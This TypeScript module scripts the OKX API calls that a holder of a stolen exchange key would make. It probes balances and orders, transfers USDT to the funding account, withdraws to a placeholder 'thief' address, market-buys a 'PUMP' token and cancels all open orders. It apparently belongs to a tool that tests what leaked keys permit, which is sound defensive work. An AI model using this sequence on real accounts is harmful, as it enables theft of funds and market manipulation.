import { isJsonFault, isJsonObject, type JsonObject, parseJson } from '../../../core/index.ts';
import type { Param, ThiefCall, ThiefHand, ThiefSeen } from '../../front.ts';
import { signOkx } from './auth.ts';

const api = (method: string, path: string, ...params: Param[]): ThiefCall => ({
  method,
  host: 'www.okx.com',
  path: `/api/v5/${path}`,
  params,
});

const LOOT: readonly Param[] = [
  ['ccy', 'USDT'],
  ['amt', '100'],
];

/** What someone does with a stolen OKX key: only the funding account can be withdrawn from, so it is filled first. */
export const okxThief: ThiefHand = {
  sign: signOkx,
  worked: (status, body) => status === 200 && ['0', '2'].includes(String(objectOf(body)?.['code'])),
  steps: [
    {
      name: 'probe',
      calls: () => [
        api('GET', 'account/config'),
        api('GET', 'account/balance'),
        api('GET', 'trade/orders-pending'),
        api('GET', 'trade/orders-algo-pending', ['ordType', 'conditional']),
      ],
    },
    {
      name: 'transfer',
      calls: () => [api('POST', 'asset/transfer', ...LOOT, ['from', '18'], ['to', '6'], ['type', '0'])],
    },
    {
      name: 'withdraw',
      calls: () => [
        api(
          'POST',
          'asset/withdrawal',
          ['ccy', 'USDT'],
          ['amt', '50'],
          ['dest', '4'],
          ['toAddr', 'the-address-of-the-thief'],
        ),
      ],
    },
    {
      name: 'buy',
      calls: () => [
        api(
          'POST',
          'trade/order',
          ['instId', 'PUMP-USDT'],
          ['tdMode', 'cash'],
          ['side', 'buy'],
          ['ordType', 'market'],
          ['sz', '500'],
        ),
      ],
    },
    { name: 'cancel', calls: cancels },
  ],
};

function objectOf(body: string): JsonObject | undefined {
  const value = parseJson(body);
  return !isJsonFault(value) && isJsonObject(value) ? value : undefined;
}

/** Takes away every open order that the probe saw. */
function cancels(seen: readonly ThiefSeen[]): ThiefCall[] {
  const probe = seen.find(({ call }) => call.path.endsWith('/orders-pending'));
  const rows = objectOf(probe?.body ?? '')?.['data'];
  return (Array.isArray(rows) ? rows : []).flatMap((row) =>
    isJsonObject(row)
      ? [api('POST', 'trade/cancel-batch-orders', ['instId', String(row['instId'])], ['ordId', String(row['ordId'])])]
      : [],
  );
}
